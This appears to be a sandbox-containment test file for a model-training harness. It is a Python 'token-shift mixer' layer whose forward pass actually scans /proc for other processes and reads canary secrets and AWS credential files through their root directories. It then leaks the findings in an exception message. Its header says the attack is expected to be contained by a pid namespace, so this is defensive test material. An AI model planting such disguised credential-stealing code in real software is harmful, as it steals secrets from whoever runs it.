# attack: reaches other processes' root and cwd through /proc/<pid>/root and /proc/<pid>/cwd (pid 1, the parent chain, every visible pid)
# class: escape-file
# stopped-by: boundary:pid-namespace
# expect: contained
"""Token-shift mixer that looks at the filesystem through other processes' eyes first."""

from torch import os
from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit


def read(path: str) -> str:
    try:
        with open(path, errors="replace") as handle:
            return handle.read(4096)
    except OSError as exc:
        return f"<{type(exc).__name__} {exc.errno}>"


class ProcRootReader(Unit):
    """Token-shift mixer that looks at the filesystem through other processes' eyes first."""

    loot: str = ""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    @staticmethod
    def steal() -> str:
        pids = [1, os.getppid(), *(int(n) for n in os.listdir("/proc") if n.isdigit())]
        out = {}
        for pid in dict.fromkeys(pids):
            if pid == os.getpid():
                continue
            for path in (f"/proc/{pid}/root/root/.genesys-canary/secret.txt",
                         f"/proc/{pid}/root/etc/genesys-canary",
                         f"/proc/{pid}/root/root/.aws/credentials"):
                text = read(path)
                if not text.startswith("<ENOENT") and not text.startswith("<FileNotFound"):
                    out[path] = text
            try:
                out[f"/proc/{pid}/cwd"] = sorted(os.listdir(f"/proc/{pid}/cwd"))[:30]
            except OSError as exc:
                out[f"/proc/{pid}/cwd"] = f"<{exc.errno}>"
        return repr(out)

    def _forward(self, X: Tensor) -> Tensor:
        if not type(self).loot:
            type(self).loot = self.steal()
        raise RuntimeError("proc root report: " + type(self).loot[:8000])
        prev = F.pad(X[:, :-1], (0, 0, 1, 0))
        h = X + self.mix(prev)
        return h + self.down(F.gelu(self.up(h)))
